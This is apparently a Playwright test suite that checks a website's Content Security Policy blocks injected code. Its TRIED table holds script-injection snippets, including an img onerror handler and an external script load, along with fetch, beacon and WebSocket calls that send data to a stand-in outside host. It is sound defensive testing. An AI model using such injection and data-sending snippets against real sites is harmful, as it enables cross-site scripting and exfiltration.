"""The content policy at work: pages do all they do within it, and what does not belong to them is stopped."""

from __future__ import annotations

from playwright.sync_api import Page, expect

TRIED = {
    "a script in the page": (
        "const script = document.createElement('script'); script.textContent = 'window.ran = true';"
        " document.body.append(script);",
        "script-src",
    ),
    "a handler in a tag": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">');",
        "script-src",
    ),
    "a script from elsewhere": (
        "const script = document.createElement('script'); script.src = 'https://elsewhere.example/x.js';"
        " document.body.append(script);",
        "script-src",
    ),
    "a picture from elsewhere": ("new Image().src = 'https://elsewhere.example/x.png';", "img-src"),
    "a style in a tag": ("document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x');", "style-src"),
    "words sent elsewhere": (
        "fetch('https://elsewhere.example/', {method: 'POST', body: 'x'}).catch(() => 0);",
        "connect-src",
    ),
    "a beacon": ("navigator.sendBeacon('https://elsewhere.example/', 'x');", "connect-src"),
    "a socket": ("try { new WebSocket('wss://elsewhere.example/'); } catch { /* told by the event */ }", "connect-src"),
    "a form": (
        "document.body.insertAdjacentHTML('beforeend', '<form action=\"/x\"></form>');"
        " document.body.lastElementChild.submit();",
        "form-action",
    ),
    "a frame": ("document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}));", "frame-src"),
    "another base": (
        "document.head.prepend(Object.assign(document.createElement('base'), {href: '/x/'}));",
        "base-uri",
    ),
}


def test_what_does_not_belong_to_a_page_is_stopped(page: Page, site: str, faults: list[str]) -> None:
    """Code, pictures, styles and frames that were put into a page, and ways to send words away, each by its rule."""
    stopped = set()
    page.on("requestfailed", lambda request: stopped.add(request.url) if request.failure == "csp" else None)
    page.goto(f"{site}scenarios/panel-day/")
    page.evaluate(
        """() => {
            window.stopped = [];
            addEventListener("securitypolicyviolation", (event) => stopped.push(event.effectiveDirective));
        }"""
    )
    found = {}
    for what, (code, _) in TRIED.items():
        page.evaluate(f"() => {{ stopped.length = 0; {code} }}")
        page.wait_for_function("() => stopped.length > 0")
        found[what] = page.evaluate("() => stopped[0]")
    assert {what: rule.removesuffix("-elem").removesuffix("-attr") for what, rule in found.items()} == {
        what: rule for what, (_, rule) in TRIED.items()
    }
    assert page.evaluate("() => window.ran") is None
    assert stopped == {fault.removeprefix("request: ") for fault in faults if fault.startswith("request: ")}
    faults.clear()


def test_a_walk_over_the_site_breaks_no_rule(page: Page, site: str) -> None:
    """Links that are fetched before they are followed, one page that fades into the next, the switch for the dark, the
    desk's worker and print: a violation would be told in the console, and so be a fault; every page by itself is opened
    in test_pages.
    """
    page.goto(site)
    page.get_by_role("link", name="Two hours").first.hover()
    page.get_by_role("link", name="Two hours").first.click()
    page.get_by_role("button", name="Search").click()
    page.get_by_role("combobox").press_sequentially("timetable")
    page.get_by_role("option").first.click()
    expect(page.locator(".md-content h1")).to_be_visible()
    page.get_by_role("button", name="Change to dark").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    page.emulate_media(media="print")
    page.emulate_media(media="screen")
    page.locator("footer").get_by_role("link", name="Handouts").click()
    desk = page.locator("second-round-desk")
    expect(desk.locator("textarea")).to_be_visible()
    page.goto(f"{site}404.html")
    expect(page.locator("h1")).to_have_text("This page is not here")
